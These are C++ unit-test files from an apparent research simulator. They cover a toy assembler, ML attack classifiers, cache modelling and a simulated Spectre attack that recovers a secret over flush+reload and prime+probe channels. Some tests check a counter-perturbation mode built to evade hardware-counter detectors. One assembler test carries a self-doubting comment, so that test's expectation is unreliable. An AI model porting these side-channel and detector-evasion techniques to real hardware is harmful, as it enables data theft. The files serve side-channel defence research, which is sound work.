      "halt\n"
      ".data\n"
      ".byte 1\n"
      ".align 64\n"
      "aligned: .byte 2\n");
  EXPECT_EQ(p.symbol("aligned") % 64, 0u);
}

TEST(Assembler, EquConstantsSubstitute) {
  const auto p = assemble(
      ".equ LEN, 12\n"
      "movi r1, LEN\n"
      "addi r1, r1, LEN-2\n");
  const auto i = first_instruction(p);
  EXPECT_EQ(i.imm, 12);
}

TEST(Assembler, LabelPlusOffsetExpressions) {
  const auto p = assemble(
      "movi r1, buf+8\n"
      "halt\n"
      ".data\n"
      "buf: .space 16\n");
  const auto i = first_instruction(p);
  EXPECT_EQ(static_cast<std::uint32_t>(i.imm), p.symbol("buf") + 8);
}

TEST(Assembler, LabelDifferenceComputesLength) {
  const auto p = assemble(
      "movi r1, msg_end-msg\n"
      "halt\n"
      ".data\n"
      "msg: .ascii \"hello\"\n"
      "msg_end:\n");
  EXPECT_EQ(first_instruction(p).imm, 5);
  // Distances are position-independent: no relocation for them.
  EXPECT_TRUE(p.relocations.empty());
}

TEST(Assembler, LabelDifferencePlusAddend) {
  const auto p = assemble(
      "movi r1, b-a+3\n"
      "halt\n"
      ".data\n"
      "a: .space 16\n"
      "b: .byte 1\n");
  EXPECT_EQ(first_instruction(p).imm, 19);
}

TEST(Assembler, LoneNegatedLabelRejected) {
  EXPECT_THROW(assemble("x: movi r1, 5-x\n"), Error);  // ok actually: 5-x has pos? no
}

TEST(Assembler, EntryDirectiveAndDefault) {
  const auto p1 = assemble(".entry go\nnop\ngo: halt\n");
  EXPECT_EQ(p1.entry, p1.symbol("go"));
  const auto p2 = assemble("nop\n_start: halt\n");
  EXPECT_EQ(p2.entry, p2.symbol("_start"));
  const auto p3 = assemble("nop\n");
  EXPECT_EQ(p3.entry, p3.link_base);
}

TEST(Assembler, OrgSetsLinkBase) {
  const auto p = assemble(".org 0x40000\nstart: halt\n");
  EXPECT_EQ(p.link_base, 0x40000u);
  EXPECT_EQ(p.symbol("start"), 0x40000u);
}

TEST(Assembler, CommentsAndBlankLinesIgnored) {
  const auto p = assemble(
      "; full comment\n"
      "   # another\n"
      "\n"
      "movi r1, 1 ; trailing\n"
      "halt # trailing too\n");
  EXPECT_EQ(first_instruction(p).op, Opcode::kMovImm);
}

TEST(Assembler, ErrorsCarryLineNumbers) {
  try {
    assemble("nop\nbogus r1\n");
    FAIL() << "expected error";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("line 2"), std::string::npos);
  }
}

TEST(Assembler, RejectsUnknownLabel) {
  EXPECT_THROW(assemble("jmp nowhere\n"), Error);
}

TEST(Assembler, RejectsDuplicateLabel) {
  EXPECT_THROW(assemble("a: nop\na: nop\n"), Error);
}

TEST(Assembler, RejectsWrongOperandCount) {
  EXPECT_THROW(assemble("add r1, r2\n"), Error);
  EXPECT_THROW(assemble("ret r1\n"), Error);
}

TEST(Assembler, RejectsInstructionsOutsideText) {
  EXPECT_THROW(assemble(".data\nnop\n"), Error);
}

TEST(Assembler, RejectsByteWithAddress) {
  EXPECT_THROW(assemble("x: halt\n.data\n.byte x\n"), Error);
}

TEST(Assembler, RuntimeLibraryAssembles) {
  const auto p = assemble(std::string("_start: halt\n") + runtime_library());
  EXPECT_GT(p.symbol("memcpy"), 0u);
  EXPECT_GT(p.symbol("restore_r0"), 0u);
  EXPECT_GT(p.symbol("syscall_fn"), 0u);
  EXPECT_GT(p.symbol("__canary"), 0u);
}

TEST(Assembler, DisassembleTextListsInstructions) {
  const auto p = assemble("movi r1, 5\nhalt\n");
  const auto text = disassemble_text(p);
  EXPECT_NE(text.find("movi r1, 5"), std::string::npos);
  EXPECT_NE(text.find("halt"), std::string::npos);
}

// Negative tests asserting the *message*, not just that assembly failed:
// a misleading diagnostic is a bug even when the rejection is correct.
void expect_asm_error(const std::string& source, const std::string& substr) {
  try {
    assemble(source);
    ADD_FAILURE() << "expected assembly of:\n"
                  << source << "to fail with '" << substr << "'";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find(substr), std::string::npos)
        << "actual message: " << e.what();
  }
}

TEST(AssemblerErrors, WrongOperandCountNamesTheMnemonic) {
  expect_asm_error("add r1, r2\n", "add expects 3 operand(s)");
  expect_asm_error("movi r1\n", "movi expects 2 operand(s)");
  expect_asm_error("ret r1\n", "ret expects 0 operand(s)");
}

TEST(AssemblerErrors, MalformedOperands) {
  expect_asm_error("mov r1, 5\n", "expected a register, got '5'");
  expect_asm_error("add r1, r2, bogus\n", "expected a register, got 'bogus'");
  expect_asm_error("load r1, r2\n", "expected a memory operand [reg+disp]");
  expect_asm_error("store 42, r1\n", "expected a memory operand [reg+disp]");
}

TEST(AssemblerErrors, DuplicateLabelIsNamed) {
  expect_asm_error("a: nop\na: nop\n", "duplicate label 'a'");
}

TEST(AssemblerErrors, UnknownLabelAndMnemonicAreNamed) {
  expect_asm_error("jmp nowhere\n", "unknown label 'nowhere'");
  expect_asm_error("frob r1, r2, r3\n", "unknown mnemonic 'frob'");
}

TEST(AssemblerErrors, OutOfRangeImmediate) {
  expect_asm_error("movi r1, 0x100000000\n", "immediate out of 32-bit range");
  expect_asm_error("addi r1, r1, -2147483649\n",
                   "immediate out of 32-bit range");
}

TEST(AssemblerErrors, UnterminatedStringDirective) {
  expect_asm_error(".data\n.ascii \"abc\n", "expected a quoted string");
  expect_asm_error(".data\n.asciz no_quotes\n", "expected a quoted string");
}

TEST(AssemblerErrors, UnknownStringEscape) {
  expect_asm_error(".data\n.ascii \"a\\qb\"\n", "unknown escape \\q");
}

TEST(AssemblerErrors, MalformedDirectives) {
  expect_asm_error(".equ ONLY_NAME\n", ".equ NAME, value");
  expect_asm_error(".data\n.word\n", ".word needs values");
  expect_asm_error(".data\n.space\n", ".space needs a size");
  expect_asm_error(".woops 3\n", "unknown directive '.woops'");
}

TEST(AssemblerErrors, MessagesCarryTheFailingLineNumber) {
  expect_asm_error("nop\nnop\nadd r1, r2\n", "asm line 3:");
  expect_asm_error(".data\n.byte\n", "asm line 2:");
}

}  // namespace
}  // namespace crs::casm
