#include <gtest/gtest.h>

#include <cmath>

#include "ml/dataset.hpp"
#include "ml/linear.hpp"
#include "ml/matrix.hpp"
#include "ml/metrics.hpp"
#include "ml/mlp.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"
#include "support/stats.hpp"

namespace crs::ml {
namespace {

// Two Gaussian blobs, linearly separable when `gap` is large.
Dataset make_blobs(std::size_t n_per_class, double gap, std::uint64_t seed,
                   std::size_t dims = 4) {
  Rng rng(seed);
  Dataset d;
  std::vector<double> row(dims);
  for (std::size_t i = 0; i < 2 * n_per_class; ++i) {
    const int label = i < n_per_class ? 0 : 1;
    for (std::size_t j = 0; j < dims; ++j) {
      row[j] = rng.next_gaussian(label == 0 ? 0.0 : gap, 1.0);
    }
    d.append(row, label);
  }
  return d;
}

// XOR-style dataset: not linearly separable.
Dataset make_xor(std::size_t n, std::uint64_t seed) {
  Rng rng(seed);
  Dataset d;
  for (std::size_t i = 0; i < n; ++i) {
    const double x = rng.next_gaussian(rng.next_bernoulli(0.5) ? 2 : -2, 0.4);
    const double y = rng.next_gaussian(rng.next_bernoulli(0.5) ? 2 : -2, 0.4);
    d.append(std::vector<double>{x, y}, (x > 0) != (y > 0) ? 1 : 0);
  }
  return d;
}

double accuracy_on(const Classifier& c, const Dataset& d) {
  const auto pred = c.predict_batch(d.x);
  return confusion(d.y, pred).accuracy();
}

TEST(Matrix, BasicAccessAndAppend) {
  Matrix m(2, 3, 1.5);
  EXPECT_EQ(m.rows(), 2u);
  EXPECT_EQ(m.cols(), 3u);
  m.at(1, 2) = 7.0;
  EXPECT_DOUBLE_EQ(m.at(1, 2), 7.0);
  m.append_row(std::vector<double>{1, 2, 3});
  EXPECT_EQ(m.rows(), 3u);
  EXPECT_THROW(m.append_row(std::vector<double>{1}), Error);
  EXPECT_THROW(m.at(3, 0), Error);
}

TEST(Matrix, MultiplyMatchesHandComputation) {
  Matrix a = Matrix::from_rows({{1, 2}, {3, 4}});
  Matrix b = Matrix::from_rows({{5, 6}, {7, 8}});
  const Matrix c = a.multiply(b);
  EXPECT_DOUBLE_EQ(c.at(0, 0), 19);
  EXPECT_DOUBLE_EQ(c.at(0, 1), 22);
  EXPECT_DOUBLE_EQ(c.at(1, 0), 43);
  EXPECT_DOUBLE_EQ(c.at(1, 1), 50);
}

TEST(Matrix, TransposeRoundTrip) {
  Matrix a = Matrix::from_rows({{1, 2, 3}, {4, 5, 6}});
  const Matrix t = a.transposed();
  EXPECT_EQ(t.rows(), 3u);
  EXPECT_DOUBLE_EQ(t.at(2, 1), 6);
}

TEST(Dataset, SplitPreservesSamplesAndRatio) {
  const Dataset d = make_blobs(100, 3.0, 1);
  Rng rng(2);
  const auto split = train_test_split(d, 0.7, rng);
  EXPECT_EQ(split.train.size() + split.test.size(), d.size());
  EXPECT_NEAR(static_cast<double>(split.train.size()) / d.size(), 0.7, 0.01);
}

TEST(Dataset, ScalerNormalisesTrainData) {
  const Dataset d = make_blobs(200, 5.0, 3);
  StandardScaler s;
  s.fit(d.x);
  const Matrix t = s.transform(d.x);
  OnlineStats col0;
  for (std::size_t i = 0; i < t.rows(); ++i) col0.add(t.at(i, 0));
  EXPECT_NEAR(col0.mean(), 0.0, 1e-9);
  EXPECT_NEAR(col0.stddev(), 1.0, 0.01);
}

TEST(Dataset, ScalerHandlesConstantColumns) {
  Dataset d;
  d.append(std::vector<double>{1.0, 5.0}, 0);
  d.append(std::vector<double>{1.0, 7.0}, 1);
  StandardScaler s;
  s.fit(d.x);
  EXPECT_NO_THROW(s.transform(d.x));  // zero-variance column: no div by 0
}

TEST(Dataset, FisherRanksSeparatingFeatureFirst) {
  Rng rng(5);
  Dataset d;
  for (int i = 0; i < 400; ++i) {
    const int label = i % 2;
    // Feature 0: noise; feature 1: separates; feature 2: weakly separates.
    d.append(std::vector<double>{rng.next_gaussian(),
                                 rng.next_gaussian(label * 6.0, 1.0),
                                 rng.next_gaussian(label * 1.0, 1.0)},
             label);
  }
  const auto top = top_k_features(d, 2);
  ASSERT_EQ(top.size(), 2u);
  EXPECT_EQ(top[0], 1u);
  EXPECT_EQ(top[1], 2u);
}

TEST(Dataset, SelectFeaturesProjects) {
  Dataset d;
  d.append(std::vector<double>{1, 2, 3}, 0);
  const Dataset p = select_features(d, {2, 0});
  EXPECT_DOUBLE_EQ(p.x.at(0, 0), 3);
  EXPECT_DOUBLE_EQ(p.x.at(0, 1), 1);
}

class LinearlySeparable : public ::testing::TestWithParam<std::string> {};

TEST_P(LinearlySeparable, ReachesHighAccuracy) {
  const Dataset train = make_blobs(300, 4.0, 11);
  const Dataset test = make_blobs(100, 4.0, 12);
  auto c = make_classifier(GetParam(), 1);
  c->fit(train.x, train.y);
  EXPECT_GT(accuracy_on(*c, test), 0.95) << GetParam();
}

TEST_P(LinearlySeparable, ProbabilitiesAreCalibratedToSides) {
  const Dataset train = make_blobs(300, 5.0, 21);
  auto c = make_classifier(GetParam(), 1);
  c->fit(train.x, train.y);
  const std::vector<double> far0{-2, -2, -2, -2};
  const std::vector<double> far1{7, 7, 7, 7};
  EXPECT_LT(c->predict_proba(far0), 0.5);
  EXPECT_GT(c->predict_proba(far1), 0.5);
}

TEST_P(LinearlySeparable, DeterministicAcrossRefits) {
  const Dataset train = make_blobs(100, 3.0, 31);
  auto a = make_classifier(GetParam(), 9);
  auto b = make_classifier(GetParam(), 9);
  a->fit(train.x, train.y);
  b->fit(train.x, train.y);
  const std::vector<double> probe{1.0, 2.0, 0.5, 1.5};
  EXPECT_DOUBLE_EQ(a->predict_proba(probe), b->predict_proba(probe));
}

TEST_P(LinearlySeparable, PartialFitAdaptsToNewRegion) {
  // Train on blobs near origin/gap, then partial_fit a new attack cluster
  // far away: the model must start flagging it.
  const Dataset train = make_blobs(300, 4.0, 41);
  auto c = make_classifier(GetParam(), 1);
  c->fit(train.x, train.y);
  Dataset cluster;
  Rng rng(42);
  for (int i = 0; i < 120; ++i) {
    std::vector<double> row(4);
    for (auto& v : row) v = rng.next_gaussian(-6.0, 0.5);
    cluster.append(row, 1);  // a new attack region at (-6,-6,-6,-6)
  }
  const std::vector<double> probe{-6, -6, -6, -6};
  c->partial_fit(cluster.x, cluster.y);
  for (int r = 0; r < 4 && c->predict(probe) != 1; ++r) {
    c->partial_fit(cluster.x, cluster.y);  // a few more online batches
  }
  EXPECT_EQ(c->predict(probe), 1) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(Zoo, LinearlySeparable,
                         ::testing::Values("LR", "SVM", "MLP", "NN"),
                         [](const auto& info) { return info.param; });

TEST(Mlp, SolvesXorUnlikeLinearModels) {
  const Dataset train = make_xor(600, 7);
  const Dataset test = make_xor(200, 8);
  Mlp mlp(mlp3_config());
  mlp.fit(train.x, train.y);
  EXPECT_GT(accuracy_on(mlp, test), 0.95);

  LogisticRegression lr;
  lr.fit(train.x, train.y);
  EXPECT_LT(accuracy_on(lr, test), 0.75) << "XOR should defeat a linear model";
}

TEST(Mlp, Nn6IsDeeperThanMlp3) {
  const Dataset train = make_blobs(50, 3.0, 9);
  Mlp small(mlp3_config());
  Mlp big(nn6_config());
  small.fit(train.x, train.y);
  big.fit(train.x, train.y);
  EXPECT_GT(big.parameter_count(), small.parameter_count());
  EXPECT_EQ(small.name(), "MLP");
  EXPECT_EQ(big.name(), "NN");
}

TEST(Mlp, RejectsBadConfigs) {
  MlpConfig cfg;
  cfg.hidden = {};
  EXPECT_THROW(Mlp m(cfg), Error);
  cfg.hidden = {0};
  EXPECT_THROW(Mlp m(cfg), Error);
}

TEST(Mlp, PredictBeforeFitThrows) {
  Mlp m;
  EXPECT_THROW(m.predict_proba(std::vector<double>{1.0}), Error);
}

TEST(Classifier, FactoryRejectsUnknownKind) {
  EXPECT_THROW(make_classifier("RandomForest", 1), Error);
}

TEST(Classifier, ZooListsPaperDetectors) {
  const auto zoo = classifier_zoo();
  ASSERT_EQ(zoo.size(), 4u);
  EXPECT_EQ(zoo[0], "MLP");
  EXPECT_EQ(zoo[1], "NN");
  EXPECT_EQ(zoo[2], "LR");
  EXPECT_EQ(zoo[3], "SVM");
}

TEST(Metrics, ConfusionAndDerivedScores) {
  const std::vector<int> truth{1, 1, 1, 1, 0, 0, 0, 0};
  const std::vector<int> pred{1, 1, 1, 0, 0, 0, 1, 0};
  const auto cm = confusion(truth, pred);
  EXPECT_EQ(cm.tp, 3u);
  EXPECT_EQ(cm.fn, 1u);
  EXPECT_EQ(cm.fp, 1u);
  EXPECT_EQ(cm.tn, 3u);
  EXPECT_DOUBLE_EQ(cm.accuracy(), 0.75);
  EXPECT_DOUBLE_EQ(cm.recall(), 0.75);
  EXPECT_DOUBLE_EQ(cm.precision(), 0.75);
  EXPECT_DOUBLE_EQ(cm.balanced_accuracy(), 0.75);
  EXPECT_NE(cm.describe().find("acc=75.0%"), std::string::npos);
}

TEST(Metrics, BalancedAccuracyResistsImbalance) {
  // 99 benign correct + 1 attack wrong: plain accuracy 0.99, balanced 0.5.
  std::vector<int> truth(100, 0), pred(100, 0);
  truth[99] = 1;
  const auto cm = confusion(truth, pred);
  EXPECT_GT(cm.accuracy(), 0.98);
  EXPECT_DOUBLE_EQ(cm.balanced_accuracy(), 0.5);
}

TEST(Metrics, SizeMismatchThrows) {
  const std::vector<int> a{1};
  const std::vector<int> b{1, 0};
  EXPECT_THROW(confusion(a, b), Error);
}

}  // namespace
}  // namespace crs::ml
