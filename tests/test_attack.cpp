// End-to-end tests of the standalone ("traditional") Spectre attack binary:
// full byte-by-byte secret recovery over the timed flush+reload channel,
// for every variant and recovery mode.
#include <gtest/gtest.h>

#include "support/error.hpp"

#include "attack/spectre.hpp"
#include "casm/assembler.hpp"
#include "harness.hpp"

namespace crs::attack {
namespace {

using sim::Event;
using sim::StopReason;

constexpr const char* kSecret = "SQUEAMISH OSSIFRAGE";

struct AttackOutcome {
  std::string recovered;
  sim::PmuSnapshot pmu{};
  StopReason reason = StopReason::kHalted;
};

AttackOutcome run_standalone(AttackConfig cfg,
                             const sim::MachineConfig& mcfg = {}) {
  cfg.embed_secret = kSecret;
  cfg.secret_length = static_cast<std::uint32_t>(std::string(kSecret).size());
  sim::Machine machine(mcfg);
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/spectre", build_attack_binary(cfg));
  kernel.start_with_strings("/bin/spectre", {});
  AttackOutcome out;
  out.reason = kernel.run(500'000'000);
  out.recovered = kernel.output_string();
  out.pmu = machine.pmu().snapshot();
  return out;
}

class AllVariants : public ::testing::TestWithParam<SpectreVariant> {};

TEST_P(AllVariants, RecoversFullSecret) {
  AttackConfig cfg;
  cfg.variant = GetParam();
  const auto out = run_standalone(cfg);
  ASSERT_EQ(out.reason, StopReason::kHalted);
  EXPECT_EQ(out.recovered, kSecret);
}

TEST_P(AllVariants, LeakIsTransientNotArchitectural) {
  AttackConfig cfg;
  cfg.variant = GetParam();
  const auto out = run_standalone(cfg);
  // The secret reads happen only on the wrong path.
  EXPECT_GT(out.pmu[static_cast<std::size_t>(Event::kSpecLoads)], 0u);
  EXPECT_GT(out.pmu[static_cast<std::size_t>(Event::kBranchMispredicts)], 0u);
}

TEST_P(AllVariants, NoRecoveryWithSpeculationDisabled) {
  // The InvisiSpec-style baseline: no transient side effects, no leak.
  AttackConfig cfg;
  cfg.variant = GetParam();
  sim::MachineConfig mcfg;
  mcfg.cpu.max_spec_window = 0;
  const auto out = run_standalone(cfg, mcfg);
  ASSERT_EQ(out.reason, StopReason::kHalted);
  EXPECT_NE(out.recovered, kSecret);
}

INSTANTIATE_TEST_SUITE_P(Variants, AllVariants,
                         ::testing::ValuesIn(all_variants()),
                         [](const auto& info) {
                           auto n = variant_name(info.param);
                           for (auto& c : n)
                             if (c == '-') c = '_';
                           return n;
                         });

TEST(Attack, ThresholdRecoveryWorksWithSaneThreshold) {
  AttackConfig cfg;
  cfg.recovery = RecoveryMode::kThreshold;
  cfg.threshold = 60;  // between the L2 hit (14) and memory (120) latencies
  const auto out = run_standalone(cfg);
  EXPECT_EQ(out.recovered, kSecret);
}

TEST(Attack, ThresholdTooLowBreaksRecovery) {
  AttackConfig cfg;
  cfg.recovery = RecoveryMode::kThreshold;
  cfg.threshold = 1;  // nothing is ever this fast
  const auto out = run_standalone(cfg);
  EXPECT_NE(out.recovered, kSecret);
}

TEST(Attack, StrideVariantUsesWiderProbe) {
  AttackConfig cfg;
  cfg.variant = SpectreVariant::kStride;
  cfg.probe_stride = 192;
  const auto out = run_standalone(cfg);
  EXPECT_EQ(out.recovered, kSecret);
}

TEST(Attack, PerturbedAttackStillRecoversSecret) {
  // Algorithm 2 contaminates the HPCs but must not break the leak.
  AttackConfig cfg;
  cfg.perturb = true;
  cfg.perturb_params = perturb::PerturbParams{};
  const auto plain = run_standalone([] {
    AttackConfig c;
    return c;
  }());
  const auto perturbed = run_standalone(cfg);
  EXPECT_EQ(perturbed.recovered, kSecret);
  // And it must actually contaminate: many more flushes than the attack's
  // own probe-flushing.
  EXPECT_GT(perturbed.pmu[static_cast<std::size_t>(Event::kClflushes)],
            plain.pmu[static_cast<std::size_t>(Event::kClflushes)] + 100);
}

TEST(Attack, PerturbEveryNReducesContamination) {
  AttackConfig every1;
  every1.perturb = true;
  AttackConfig every4 = every1;
  every4.perturb_every = 4;
  const auto a = run_standalone(every1);
  const auto b = run_standalone(every4);
  EXPECT_EQ(a.recovered, kSecret);
  EXPECT_EQ(b.recovered, kSecret);
  EXPECT_GT(a.pmu[static_cast<std::size_t>(Event::kClflushes)],
            b.pmu[static_cast<std::size_t>(Event::kClflushes)]);
}

TEST(Attack, MajorityVotingRecoversSecret) {
  AttackConfig cfg;
  cfg.rounds_per_byte = 3;
  const auto out = run_standalone(cfg);
  EXPECT_EQ(out.recovered, kSecret);
}

TEST(Attack, MajorityVotingSalvagesMarginalThreshold) {
  // With a threshold exactly at the memory band, a single round misfires
  // on timer jitter; three voted rounds still recover correctly... at the
  // very least voting must never do worse than a single round.
  AttackConfig single;
  single.recovery = RecoveryMode::kThreshold;
  single.threshold = 115;
  AttackConfig voted = single;
  voted.rounds_per_byte = 5;
  const auto a = run_standalone(single);
  const auto b = run_standalone(voted);
  auto score = [&](const std::string& got) {
    std::size_t ok = 0;
    const std::string truth = kSecret;
    for (std::size_t i = 0; i < truth.size() && i < got.size(); ++i) {
      ok += got[i] == truth[i] ? 1 : 0;
    }
    return ok;
  };
  EXPECT_GE(score(b.recovered), score(a.recovered));
  EXPECT_EQ(b.recovered, kSecret);
}

TEST(Attack, PrimeProbeChannelRecoversSecretWithoutFlushes) {
  // The clflush/mfence-free receiver: eviction-set priming + dependent
  // re-walk timing. Three voted rounds absorb cold-start noise.
  AttackConfig cfg;
  cfg.channel = CovertChannel::kPrimeProbe;
  cfg.rounds_per_byte = 3;
  const auto out = run_standalone(cfg);
  EXPECT_EQ(out.recovered, kSecret);
  EXPECT_EQ(out.pmu[static_cast<std::size_t>(Event::kClflushes)], 0u);
  EXPECT_EQ(out.pmu[static_cast<std::size_t>(Event::kMfences)], 0u);
}

TEST(Attack, PrimeProbeStillNeedsSpeculation) {
  AttackConfig cfg;
  cfg.channel = CovertChannel::kPrimeProbe;
  cfg.rounds_per_byte = 3;
  sim::MachineConfig mcfg;
  mcfg.cpu.max_spec_window = 0;
  const auto out = run_standalone(cfg, mcfg);
  EXPECT_NE(out.recovered, kSecret);
}

TEST(Attack, PrimeProbeRequiresPhtVariant) {
  AttackConfig cfg;
  cfg.target_secret_address = 0x1000;
  cfg.channel = CovertChannel::kPrimeProbe;
  cfg.variant = SpectreVariant::kRsb;
  EXPECT_THROW(generate_attack_source(cfg), Error);
  cfg.variant = SpectreVariant::kPht;
  cfg.probe_stride = 128;
  EXPECT_THROW(generate_attack_source(cfg), Error);
}

TEST(Attack, RoundsValidation) {
  AttackConfig cfg;
  cfg.target_secret_address = 0x1000;
  cfg.rounds_per_byte = 0;
  EXPECT_THROW(generate_attack_source(cfg), Error);
}

TEST(Attack, GeneratedSourceIsInspectable) {
  AttackConfig cfg;
  cfg.target_secret_address = 0x12345;
  const auto src = generate_attack_source(cfg);
  EXPECT_NE(src.find("victim:"), std::string::npos);
  EXPECT_NE(src.find("probe"), std::string::npos);
  const auto prog = build_attack_binary(cfg);
  const auto text = casm::disassemble_text(prog);
  EXPECT_NE(text.find("clflush"), std::string::npos);
  EXPECT_NE(text.find("rdcycle"), std::string::npos);
}

TEST(Attack, ConfigValidation) {
  AttackConfig cfg;  // no target, no embedded secret
  EXPECT_THROW(generate_attack_source(cfg), Error);
  cfg.target_secret_address = 0x1000;
  cfg.probe_stride = 100;  // not a multiple of 64
  EXPECT_THROW(generate_attack_source(cfg), Error);
}

TEST(Attack, VariantNames) {
  EXPECT_EQ(variant_name(SpectreVariant::kPht), "spectre-pht");
  EXPECT_EQ(variant_name(SpectreVariant::kRsb), "spectre-rsb");
  EXPECT_EQ(variant_name(SpectreVariant::kStride), "spectre-stride");
}

}  // namespace
}  // namespace crs::attack
