#include <gtest/gtest.h>

#include "sim/cache.hpp"
#include "support/error.hpp"

namespace crs::sim {
namespace {

TEST(CacheLevel, MissThenHit) {
  CacheLevel c({1024, 64, 2});
  EXPECT_FALSE(c.access(0));
  EXPECT_TRUE(c.access(0));
  EXPECT_TRUE(c.access(63));   // same line
  EXPECT_FALSE(c.access(64));  // next line
}

TEST(CacheLevel, ProbeDoesNotFill) {
  CacheLevel c({1024, 64, 2});
  EXPECT_FALSE(c.probe(0));
  EXPECT_FALSE(c.access(0));  // still a miss: probe did not fill
  EXPECT_TRUE(c.probe(0));
}

TEST(CacheLevel, LruEvictsOldest) {
  // 2-way, 8 sets: lines 0, 8, 16 (in line units) map to set 0.
  CacheLevel c({1024, 64, 2});
  const std::uint64_t way_stride = 64 * c.num_sets();
  c.access(0);
  c.access(way_stride);
  c.access(0);               // 0 is now MRU
  c.access(2 * way_stride);  // evicts way_stride
  EXPECT_TRUE(c.probe(0));
  EXPECT_FALSE(c.probe(way_stride));
  EXPECT_TRUE(c.probe(2 * way_stride));
}

TEST(CacheLevel, FlushLineEvicts) {
  CacheLevel c({1024, 64, 2});
  c.access(128);
  EXPECT_TRUE(c.probe(128));
  c.flush_line(130);  // same line
  EXPECT_FALSE(c.probe(128));
}

TEST(CacheLevel, FlushMissingLineIsNoop) {
  CacheLevel c({1024, 64, 2});
  EXPECT_NO_THROW(c.flush_line(4096));
}

TEST(CacheLevel, ClearInvalidatesEverything) {
  CacheLevel c({1024, 64, 2});
  for (std::uint64_t a = 0; a < 1024; a += 64) c.access(a);
  c.clear();
  for (std::uint64_t a = 0; a < 1024; a += 64) EXPECT_FALSE(c.probe(a));
}

TEST(CacheLevel, RejectsBadGeometry) {
  EXPECT_THROW(CacheLevel({1000, 60, 2}), crs::Error);
  EXPECT_THROW(CacheLevel({1024, 64, 0}), crs::Error);
}

TEST(Hierarchy, LatenciesReflectResidence) {
  MemoryHierarchy h;
  const auto& t = h.timings();

  const auto miss = h.access_data(0x1000);
  EXPECT_FALSE(miss.l1_hit);
  EXPECT_FALSE(miss.l2_hit);
  EXPECT_EQ(miss.latency, t.memory);

  const auto hit = h.access_data(0x1000);
  EXPECT_TRUE(hit.l1_hit);
  EXPECT_EQ(hit.latency, t.l1_hit);
}

TEST(Hierarchy, L2HitAfterL1Eviction) {
  HierarchyConfig cfg;
  cfg.l1d = {512, 64, 1};  // tiny direct-mapped L1: easy to evict
  MemoryHierarchy h(cfg);
  h.access_data(0);
  h.access_data(512);  // evicts 0 from L1 (same set), both still in L2
  const auto out = h.access_data(0);
  EXPECT_FALSE(out.l1_hit);
  EXPECT_TRUE(out.l2_hit);
  EXPECT_EQ(out.latency, h.timings().l2_hit);
}

TEST(Hierarchy, FlushDataEvictsAllLevels) {
  MemoryHierarchy h;
  h.access_data(0x2000);
  EXPECT_TRUE(h.l1d_resident(0x2000));
  EXPECT_TRUE(h.l2_resident(0x2000));
  h.flush_data(0x2000);
  EXPECT_FALSE(h.l1d_resident(0x2000));
  EXPECT_FALSE(h.l2_resident(0x2000));
  const auto out = h.access_data(0x2000);
  EXPECT_EQ(out.latency, h.timings().memory);
}

TEST(Hierarchy, FlushReloadDistinguishesTouchedLine) {
  // The covert channel's core property: after flushing two lines and
  // touching one, reload latency separates them.
  MemoryHierarchy h;
  const std::uint64_t a = 0x4000, b = 0x8000;
  h.access_data(a);
  h.access_data(b);
  h.flush_data(a);
  h.flush_data(b);
  h.access_data(a);  // "victim" touches a
  const auto ra = h.access_data(a);
  const auto rb = h.access_data(b);
  EXPECT_LT(ra.latency, rb.latency);
}

TEST(Hierarchy, FetchHitsAfterFirstAccess) {
  MemoryHierarchy h;
  const auto first = h.access_fetch(0x100);
  EXPECT_FALSE(first.l1i_hit);
  EXPECT_GT(first.latency, 0u);
  const auto second = h.access_fetch(0x100);
  EXPECT_TRUE(second.l1i_hit);
  EXPECT_EQ(second.latency, h.timings().fetch_l1_hit);
}

TEST(Hierarchy, ClearResetsEverything) {
  MemoryHierarchy h;
  h.access_data(0x100);
  h.access_fetch(0x100);
  h.clear();
  EXPECT_FALSE(h.l1d_resident(0x100));
  EXPECT_FALSE(h.access_fetch(0x100).l1i_hit);
}

TEST(CacheLevel, RepeatHitsOnUnarmedMemoAreSafe) {
  // Regression: access_repeat_hits dereferenced the MRU memo
  // unconditionally; on a fresh (never-accessed) level that pointer is
  // null. The batch must still advance the use counter without crashing.
  CacheLevel fresh(CacheConfig{1024, 64, 2});
  fresh.access_repeat_hits(5);
  EXPECT_EQ(fresh.check_invariants(), "");
  EXPECT_FALSE(fresh.access(0x100));  // level still works (cold miss)
}

TEST(CacheLevel, ClearDisarmsTheMemo) {
  CacheLevel level(CacheConfig{1024, 64, 2});
  level.access(0x100);  // arms the memo
  level.clear();        // ...which clear() must scrub, not leave dangling
  EXPECT_EQ(level.check_invariants(), "");
  level.access_repeat_hits(3);  // unarmed fallback: no stamp, no crash
  EXPECT_EQ(level.check_invariants(), "");
  EXPECT_EQ(level.occupancy(), 0u);
  // A real access re-arms the memo and repeat credits stamp again.
  level.access(0x100);
  level.access_repeat_hits(2);
  EXPECT_EQ(level.check_invariants(), "");
  EXPECT_TRUE(level.access(0x100));
}

TEST(Hierarchy, RepeatHitsAfterL1FlushAreSafe) {
  // flush_l1 (the context-switch hygiene mitigation) clear()s the L1I; a
  // block engine batch crediting immediately after must hit the unarmed
  // fallback, not a stale way.
  MemoryHierarchy h;
  h.access_fetch(0x200);
  h.flush_l1();
  h.fetch_repeat_hits(4);
  EXPECT_EQ(h.check_invariants(), "");
}

TEST(Hierarchy, DistinctLinesDoNotAlias) {
  MemoryHierarchy h;
  // 256 probe lines at 64-byte stride must be independently trackable
  // (the attack's probe array).
  for (int i = 0; i < 256; ++i) h.access_data(0x10000 + 64ull * i);
  for (int i = 0; i < 256; ++i)
    EXPECT_TRUE(h.l1d_resident(0x10000 + 64ull * i)) << i;
}

}  // namespace
}  // namespace crs::sim
