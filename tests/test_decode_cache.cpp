// Decode-cache coherence: stores to executable pages, clflush of mapped
// code lines, and execve-style overlays must all force re-decode, and the
// cache must never change architectural or PMU-visible behaviour.
#include <gtest/gtest.h>

#include <tuple>

#include "attack/spectre.hpp"
#include "harness.hpp"
#include "sim/decode_cache.hpp"
#include "sim/snapshot.hpp"
#include "workloads/workloads.hpp"

namespace crs {
namespace {

using sim::DecodeCache;
using sim::Memory;
using sim::StopReason;
using test::SimHarness;

// Writes one encoded instruction at `addr` (bumps the page version, which is
// fine: these run before the machine starts).
void put(Memory& mem, std::uint64_t addr, isa::Opcode op, int rd = 0,
         int rs1 = 0, int rs2 = 0, std::int32_t imm = 0) {
  isa::Instruction in;
  in.op = op;
